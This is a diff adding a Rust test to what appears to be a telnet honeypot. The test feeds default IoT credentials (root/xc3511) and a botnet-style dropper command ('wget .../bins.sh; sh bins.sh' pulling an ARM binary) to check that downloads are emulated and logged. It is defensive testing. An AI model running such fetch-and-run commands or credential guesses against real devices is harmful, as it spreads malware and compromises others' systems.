@@ -422,6 +422,52 @@ fn files_survive_a_reconnect_from_the_same_source() {
 }
 
 #[test]
+fn downloads_wait_for_the_edge_when_fetching_is_on() {
+    let mut cfg = config("oracle", Limits::default());
+    Arc::get_mut(&mut cfg).unwrap().shell.fetch = true;
+    let mut h = Harness::with(cfg);
+    h.advance(ms(10));
+    h.send(b"root\r\nxc3511\r\n");
+    let out = h.send(b"cd /tmp; wget http://127.0.0.1/bins.sh; sh bins.sh\r\n");
+    assert!(
+        out.ends_with(b"Connecting to 127.0.0.1 (127.0.0.1:80)\r\n"),
+        "{out:?}"
+    );
+    let (id, req) = h.session.poll_fetch().unwrap();
+    assert_eq!(req.url, "http://127.0.0.1/bins.sh");
+    assert_eq!(h.session.poll_fetch(), None);
+    let script = b"echo from script\nwget http://127.0.0.1/x.arm -O x\n".to_vec();
+    h.session
+        .handle_fetch_result(h.now, id, FetchResult::Data(script));
+    let out = h.take();
+    assert_eq!(
+        out,
+        b"saving to 'bins.sh'\r\nfrom script\r\nConnecting to 127.0.0.1 (127.0.0.1:80)\r\n"
+    );
+    let (id2, req2) = h.session.poll_fetch().unwrap();
+    assert_eq!(req2.url, "http://127.0.0.1/x.arm");
+    // A stale answer is ignored; the right one finishes the line.
+    h.session
+        .handle_fetch_result(h.now, id, FetchResult::Refused);
+    assert_eq!(h.take(), b"");
+    h.session
+        .handle_fetch_result(h.now, id2, FetchResult::Refused);
+    assert_eq!(
+        h.take(),
+        b"wget: can't connect to remote host (127.0.0.1): Connection refused\r\n/tmp # \x1b[6n"
+    );
+    let urls: Vec<String> = h
+        .events()
+        .into_iter()
+        .filter_map(|e| match e {
+            EventKind::DownloadRequest { url, .. } => Some(url),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(urls, ["http://127.0.0.1/bins.sh", "http://127.0.0.1/x.arm"]);
+}
+
+#[test]
 fn output_doubles_iac() {
     let mut h = Harness::new("oracle");
     h.advance(ms(10));
